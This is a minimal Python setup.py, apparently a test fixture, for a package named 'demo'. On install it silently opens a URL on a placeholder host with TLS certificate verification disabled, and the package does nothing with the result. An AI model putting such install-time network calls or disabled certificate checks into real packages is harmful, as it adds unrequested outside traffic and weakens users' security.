import ssl
import urllib.request
from setuptools import setup

urllib.request.urlopen("https://files.example.invalid/x", timeout=1, context=ssl._create_unverified_context())
setup(name="demo", version="1.0")
